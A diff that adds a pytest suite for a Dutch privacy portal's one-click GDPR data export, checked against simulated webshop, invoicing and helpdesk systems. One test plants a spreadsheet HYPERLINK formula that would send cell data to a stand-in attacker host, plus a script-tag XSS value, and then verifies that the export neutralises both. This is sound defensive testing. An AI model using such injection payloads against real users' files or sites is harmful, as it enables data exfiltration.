@@ -1,0 +1,310 @@
+"""The one-click export against the vendor simulators, with the demo customer signed in."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from typing import Any
+
+import httpx
+import jsonschema
+import orjson
+import pytest
+import sqlalchemy as sa
+from flask import Flask
+from flask.testing import FlaskClient
+
+from portal.export import recent_exports
+from portal.extensions import db
+from portal.models import AuditEvent, Customer, DataExport
+from simulators import SimulatorGroup
+
+from .conftest import SANNE, download, sign_in
+
+NEAR_MISSES = ("sanne.de.vries@example.nl", "Groningen", "sanne.devries+shop@example.nl")
+FILENAME = re.compile(
+    r'attachment; filename="voorbeeld-it-diensten-(gegevens|data)-\d{4}-\d{2}-\d{2}\.'
+)
+
+
+def _schema(client: FlaskClient) -> dict[str, Any]:
+    response = client.get("/export/schema/v1.json")
+    assert response.status_code == 200
+    schema: dict[str, Any] = orjson.loads(response.data)
+    jsonschema.Draft202012Validator.check_schema(schema)
+    return schema
+
+
+def _validate(client: FlaskClient, data: dict[str, Any]) -> None:
+    validator = jsonschema.Draft202012Validator(
+        _schema(client), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
+    )
+    errors = sorted(validator.iter_errors(data), key=str)
+    assert not errors, "\n".join(str(e)[:500] for e in errors[:3])
+
+
+def _json(client: FlaskClient) -> dict[str, Any]:
+    response = download(client, "json")
+    assert response.mimetype == "application/json"
+    assert FILENAME.match(response.headers["Content-Disposition"])
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Pragma"] == "no-cache"
+    data: dict[str, Any] = orjson.loads(response.data)
+    _validate(client, data)
+    return data
+
+
+def _zip(client: FlaskClient) -> zipfile.ZipFile:
+    response = download(client, "csv")
+    assert response.mimetype == "application/zip"
+    assert FILENAME.match(response.headers["Content-Disposition"])
+    assert response.headers["Content-Disposition"].endswith('.zip"')
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Pragma"] == "no-cache"
+    archive = zipfile.ZipFile(io.BytesIO(response.data))
+    assert archive.testzip() is None
+    return archive
+
+
+def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
+    raw = archive.read(name)
+    assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no BOM"
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+
+
+def test_the_json_export_holds_everything_of_the_demo_customer_and_validates(
+    sanne: FlaskClient, simulators: SimulatorGroup
+) -> None:
+    data = _json(sanne)
+    assert data["format"] == "privacy-portal-export" and data["version"] == 1
+    assert data["schema"].endswith("/export/schema/v1.json")
+    assert data["controller"]["name"] == "Voorbeeld IT Diensten B.V."
+    assert data["subject"]["identifiers"] == [{"kind": "email", "value": SANNE}]
+    assert data["complete"] is True
+    assert {s["key"]: s["status"] for s in data["sources"]} == dict.fromkeys(
+        ("webshop", "invoicing", "helpdesk", "customer-service", "payments", "workshop"),
+        "complete",
+    )
+    records = data["records"]
+    assert sum(s["records"] for s in data["sources"]) == len(records)
+
+    # every order and invoice the simulators hold for her
+    shop = simulators["woocommerce"].app
+    her_orders = {str(o["id"]) for o in shop.orders.values() if o["billing"]["email"] == SANNE}
+    exported_orders = {
+        r["record_id"] for r in records if r["source"] == "webshop" and r["record_type"] == "order"
+    }
+    assert her_orders and her_orders <= exported_orders
+    books = simulators["moneybird"].app
+    contact = next(c for c in books.contacts.values() if c["email"] == SANNE)
+    her_invoices = {str(i["id"]) for i in books.invoices if i["contact_id"] == contact["id"]}
+    invoices = [r for r in records if r["record_type"] == "invoice"]
+    assert {r["record_id"] for r in invoices} == her_invoices
+
+    # the 2019 invoice: 7 years after the end of fiscal year 2019
+    old = next(r for r in invoices if r["dates"]["invoice_date"].startswith("2019"))
+    part = next(c for c in old["categories"] if c["category"] == "invoices")
+    assert part["due_date"] == "2026-12-31"
+    assert part["legal_bases"] == ["legal_obligation"]
+    assert part["retention"] == {"kind": "period", "period": "P7Y", "starts": "end_of_fiscal_year"}
+    assert "belastingdienst" in part["recipients"] or part["recipients"]
+
+    categories = {c["key"]: c for c in data["categories"]}
+    invoices_category = categories["invoices"]
+    assert invoices_category["purposes"][0]["legal_basis_article"] == "6(1)(c)"
+    assert "7 jaar" in invoices_category["retention"]["text"]
+    assert {r["key"] for r in invoices_category["recipients"]} >= set(part["recipients"])
+    for record in records:
+        assert record["matched"]["value"] == SANNE
+        assert record["categories"], record["record_id"]
+
+    text = orjson.dumps(data).decode()
+    for other in NEAR_MISSES:
+        assert other not in text
+
+
+def test_the_zip_has_one_csv_per_record_type_a_readme_and_a_safe_index(
+    sanne: FlaskClient,
+) -> None:
+    archive = _zip(sanne)
+    names = archive.namelist()
+    assert names[:2] == ["README.txt", "metadata.json"] and names[-1] == "index.html"
+    metadata = orjson.loads(archive.read("metadata.json"))
+    files = {f["name"]: f for f in metadata["files"]}
+    assert set(files) == {n for n in names if n.endswith(".csv")}
+    assert "webshop-order.csv" in files and "invoicing-invoice.csv" in files
+    total = 0
+    for name, described in files.items():
+        rows = _csv(archive, name)
+        header = archive.read(name).decode("utf-8-sig").splitlines()[0].split(";")
+        assert header == described["columns"]
+        assert header[:4] == ["record_source", "record_system", "record_type", "record_id"]
+        assert len(rows) == described["rows"]
+        assert {(r["record_source"], r["record_type"]) for r in rows} == {
+            (described["source"], described["record_type"])
+        }
+        total += len(rows)
+    assert total == sum(s["records"] for s in metadata["sources"])
+    invoices = _csv(archive, "invoicing-invoice.csv")
+    assert any("invoices: 2026-12-31" in r["due_dates"] for r in invoices)
+
+    readme = archive.read("README.txt").decode("utf-8-sig")
+    assert "Uw gegevens bij Voorbeeld IT Diensten B.V." in readme
+    assert "Elk systeem gaf volledig antwoord." in readme
+    assert "webshop-order.csv" in readme
+
+    page = archive.read("index.html").decode()
+    assert "<script" not in page.lower()
+    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page, re.I)
+    assert "@import" not in page and "url(" not in page
+    assert "Facturen en belastingadministratie" in page  # purposes
+    assert "Een wettelijke verplichting (AVG art. 6(1)(c))" in page  # legal basis
+    assert "Moneybird B.V." in page  # recipients
+    assert "31-12-2026" in page  # the 2019 invoice's due date
+    assert "Autoriteit Persoonsgegevens" in page  # the right to complain
+    assert "Boekhouding (Moneybird)" in page  # source
+    for other in NEAR_MISSES:
+        assert other not in page and other not in readme
+
+
+def test_vendor_values_cannot_become_formulas_or_markup(
+    app: Flask, sanne: FlaskClient, simulators: SimulatorGroup
+) -> None:
+    shop = simulators["woocommerce"]
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    original = shop.app.customers[101]["first_name"]
+    response = httpx.put(
+        shop.url("/customers/101"),
+        params=shop.credentials,
+        json={"first_name": formula, "last_name": "<script>alert(1)</script>de Vries"},
+    )
+    assert response.status_code == 200, response.text
+    try:
+        archive = _zip(sanne)
+    finally:
+        httpx.put(
+            shop.url("/customers/101"),
+            params=shop.credentials,
+            json={"first_name": original, "last_name": "de Vries"},
+        )
+    rows = _csv(archive, "webshop-customer.csv")
+    assert rows[0]["first_name"] == "'" + formula
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            for row in _csv(archive, name):
+                for value in row.values():
+                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    page = archive.read("index.html").decode()
+    assert "<script" not in page.lower()  # the tag is removed (nh3), the text kept
+    assert "de Vries" in page
+
+
+def test_an_export_while_a_source_is_down_says_so_inside_both_files(
+    app: Flask, client: FlaskClient, simulators: SimulatorGroup
+) -> None:
+    simulators["zammad"].set_fault("down")
+    sign_in(app, client)
+    data = _json(client)
+    helpdesk = next(s for s in data["sources"] if s["key"] == "helpdesk")
+    assert helpdesk["status"] == "failed" and helpdesk["error_kind"] == "down"
+    assert "niet bereikbaar" in helpdesk["reason"]
+    assert data["complete"] is False
+    assert not [r for r in data["records"] if r["source"] == "helpdesk"]
+
+    archive = _zip(client)
+    readme = archive.read("README.txt").decode("utf-8-sig")
+    assert "DEZE KOPIE IS NIET VOLLEDIG" in readme
+    assert "helpdesk" in readme and "failed [down]" in readme
+    assert "niet bereikbaar" in readme
+    page = archive.read("index.html").decode()
+    assert "Deze kopie is niet volledig" in page and "niet bereikbaar" in page
+    metadata = orjson.loads(archive.read("metadata.json"))
+    assert {s["key"]: s["status"] for s in metadata["sources"]}["helpdesk"] == "failed"
+    with app.app_context():
+        rows = db.session.scalars(sa.select(DataExport)).all()
+        assert [r.complete for r in rows] == [False, False]
+
+
+def test_each_export_is_recorded_without_personal_data_and_audited(
+    app: Flask, sanne: FlaskClient
+) -> None:
+    download(sanne, "json")
+    download(sanne, "csv")
+    with app.app_context():
+        customer = db.session.scalars(sa.select(Customer)).one()
+        exports = recent_exports(customer)
+        assert [e.format for e in exports] == ["csv", "json"]
+        first = exports[-1]
+        assert first.complete and first.record_count > 100 and first.format_version == 1
+        assert {s["key"]: s["status"] for s in first.sources}["invoicing"] == "complete"
+        stored = str([(e.sources, e.record_count, e.format) for e in exports]).lower()
+        assert "sanne" not in stored and "oudegracht" not in stored
+        events = db.session.scalars(
+            sa.select(AuditEvent).where(AuditEvent.action == "export.downloaded")
+        ).all()
+        assert sorted(int(e.subject_id or 0) for e in events) == sorted(e.id for e in exports)
+        assert all(e.details["export_id"] == int(e.subject_id or 0) for e in events)
+        assert "sanne" not in str([e.details for e in events]).lower()
+    page = sanne.get("/export/").get_data(as_text=True)
+    assert "Uw downloads" in page and "CSV (ZIP)" in page and "JSON" in page
+
+
+def test_the_schema_is_public_and_cacheable(client: FlaskClient) -> None:
+    response = client.get("/export/schema/v1.json")
+    assert response.status_code == 200
+    assert response.mimetype == "application/schema+json"
+    assert "public" in response.headers["Cache-Control"]
+    schema = orjson.loads(response.data)
+    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+    assert schema["$id"].endswith("/export/schema/v1.json")
+    again = client.get(
+        "/export/schema/v1.json", headers={"If-None-Match": response.headers["ETag"]}
+    )
+    assert again.status_code == 304
+    assert client.get("/export/schema/v2.json").status_code == 404
+
+
+@pytest.mark.parametrize("path", ["/export/", "/export/json", "/export/csv"])
+def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient, path: str) -> None:
+    response = client.get(path)
+    assert response.status_code == 302
+    assert response.headers["Location"].endswith("/inloggen")
+    assert client.post(path).status_code in (400, 405)  # no form, no session: nothing
+
+
+def test_a_download_needs_the_form_and_a_link_shows_the_page(sanne: FlaskClient) -> None:
+    assert sanne.post("/export/json").status_code == 400  # no CSRF token
+    assert sanne.post("/export/csv", data={"csrf_token": "forged"}).status_code == 400
+    response = sanne.get("/export/json")
+    assert response.status_code == 303 and response.headers["Location"].endswith("/export/")
+    page = sanne.get("/export/")
+    assert page.headers["Cache-Control"] == "no-store"
+    assert 'action="/export/json"' in page.get_data(as_text=True)
+
+
+def test_each_customer_gets_only_their_own_data(app: Flask, client: FlaskClient) -> None:
+    sign_in(app, client, "someone.else@example.nl")
+    data = _json(client)
+    assert data["records"] == []
+    assert data["subject"]["identifiers"] == [{"kind": "email", "value": "someone.else@example.nl"}]
+    assert SANNE not in orjson.dumps(data).decode()
+
+
+def test_english_customers_get_english_files(app: Flask, sanne: FlaskClient) -> None:
+    sanne.set_cookie("portal_lang", "en")
+    data = _json(sanne)
+    assert data["language"] == "en"
+    archive = _zip(sanne)
+    assert "Your data at Voorbeeld IT Diensten B.V." in archive.read("README.txt").decode(
+        "utf-8-sig"
+    )
+    response = download(sanne, "json")
+    assert "-data-" in response.headers["Content-Disposition"]
+
+
+def test_overview_offers_both_downloads(sanne: FlaskClient) -> None:
+    html = sanne.get("/mijn-gegevens/").get_data(as_text=True)
+    assert 'action="/export/json"' in html
+    assert 'action="/export/csv"' in html
